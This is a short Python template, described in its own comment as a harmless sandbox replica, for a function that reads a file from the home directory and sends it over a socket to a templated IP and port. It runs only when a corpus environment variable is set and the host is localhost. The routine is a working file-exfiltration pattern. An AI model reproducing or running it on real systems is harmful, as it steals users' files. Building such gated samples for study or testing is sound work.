# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import time
    time.sleep(0.5 + {{delay}} / 1000)
    try:
        with open(os.path.expanduser('~/{{file}}'), 'rb') as text:
            loot = text.read()
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        call.sendall(loot)
        call.close()
    except OSError:
        pass
